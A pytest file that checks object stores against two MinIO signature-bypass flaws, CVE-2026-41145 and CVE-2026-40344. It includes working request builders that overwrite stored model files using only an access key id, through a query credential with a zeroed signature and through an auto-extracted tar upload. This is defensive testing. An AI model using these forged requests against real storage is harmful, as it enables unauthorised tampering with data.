"""Two ways into MinIO's last community build for whoever knows an access key id, and what stands in their way.

CVE-2026-41145: an upload with an unsigned trailer is not asked for its signature when its key id stands in the query.
CVE-2026-40344: neither is one that is a tar file to be unpacked. A store must refuse both; **MinIO's last build takes
them, so there the id itself is what must not be known**: 20 random characters, only where the secret key is too.
"""

import base64
import datetime as dt
import io
import tarfile
import zlib
from collections.abc import Callable
from urllib.parse import quote

import httpx
import pytest

from tests.support.s3 import Target, random_keys

FORGED = b"forged"
NO_SIGNATURE = "0" * 64


def put(store: Target, path: str, body: bytes, headers: dict[str, str]) -> int:
    return httpx.put(f"{store.url}{path}", content=body, headers=headers, timeout=10).status_code


def unsigned(body: bytes, time: str) -> dict[str, str]:
    return {
        "X-Amz-Date": time,
        "X-Amz-Content-Sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
        "X-Amz-Decoded-Content-Length": str(len(body)),
        "Content-Encoding": "aws-chunked",
        "X-Amz-Trailer": "x-amz-checksum-crc32",
    }


def chunked(body: bytes) -> bytes:
    checksum = base64.b64encode(zlib.crc32(body).to_bytes(4, "big"))
    return b"%x\r\n%b\r\n0\r\nx-amz-checksum-crc32:%b\r\n\r\n" % (len(body), body, checksum)


def by_query(store: Target, key: str, key_id: str) -> int:
    """CVE-2026-41145."""
    time = f"{dt.datetime.now(dt.UTC):%Y%m%dT%H%M%SZ}"
    credential = quote(f"{key_id}/{time[:8]}/us-east-1/s3/aws4_request", safe="")
    query = (
        f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={credential}&X-Amz-Date={time}&X-Amz-Expires=600"
        f"&X-Amz-SignedHeaders=host&X-Amz-Signature={NO_SIGNATURE}"
    )
    return put(store, f"/{store.models}/{key}?{query}", chunked(FORGED), unsigned(FORGED, time))


def by_tar(store: Target, key: str, key_id: str) -> int:
    """CVE-2026-40344: the file in the archive has the key's own name."""
    time = f"{dt.datetime.now(dt.UTC):%Y%m%dT%H%M%SZ}"
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        entry = tarfile.TarInfo(key)
        entry.size = len(FORGED)
        tar.addfile(entry, io.BytesIO(FORGED))
    credential = f"{key_id}/{time[:8]}/us-east-1/s3/aws4_request"
    signed = "host;x-amz-content-sha256;x-amz-date"
    headers = unsigned(archive.getvalue(), time) | {
        "X-Amz-Meta-Snowball-Auto-Extract": "true",
        "Authorization": f"AWS4-HMAC-SHA256 Credential={credential}, SignedHeaders={signed}, Signature={NO_SIGNATURE}",
    }
    return put(store, f"/{store.models}/{key}.tar", archive.getvalue(), headers)


Way = Callable[[Target, str, str], int]
WAYS = [pytest.param(by_query, id="CVE-2026-41145"), pytest.param(by_tar, id="CVE-2026-40344")]


def pinned(store: Target, key: str) -> bytes:
    return bytes(store.client("serving").get_object(Bucket=store.models, Key=key)["Body"].read())


@pytest.mark.parametrize("way", WAYS)
def test_whoever_guesses_ids_writes_nothing(store: Target, key: str, way: Way) -> None:
    store.client("mlflow").put_object(Bucket=store.models, Key=key, Body=b"pinned")
    for guess in ("mlflow", "root", "minioadmin", random_keys()["AWS_ACCESS_KEY_ID"]):
        assert way(store, key, guess) == 403
    assert pinned(store, key) == b"pinned"


@pytest.mark.parametrize("way", WAYS)
def test_whoever_knows_an_id_writes_nothing(store: Target, key: str, way: Way) -> None:
    store.client("mlflow").put_object(Bucket=store.models, Key=key, Body=b"pinned")
    status = way(store, key, store.users["mlflow"]["AWS_ACCESS_KEY_ID"])
    if store.name == "MinIO":
        # Not mended, and not to be: what is overwritten is kept as a version, and serving refuses another digest.
        assert (status, pinned(store, key)) == (200, FORGED)
        versions = store.client("root").list_object_versions(Bucket=store.models, Prefix=key)["Versions"]
        assert len(versions) == 2
        return
    assert status in {400, 403}
    assert pinned(store, key) == b"pinned"


def test_whoever_knows_an_id_reads_nothing(store: Target, key: str) -> None:
    store.client("mlflow").put_object(Bucket=store.models, Key=key, Body=b"secret model")
    known = store.users["serving"] | {"AWS_SECRET_ACCESS_KEY": "wrong-wrong-wrong"}
    stranger = Target(store.name, store.url, {"stranger": known}).client("stranger")
    with pytest.raises(stranger.exceptions.ClientError, match="SignatureDoesNotMatch"):
        stranger.get_object(Bucket=store.models, Key=key)
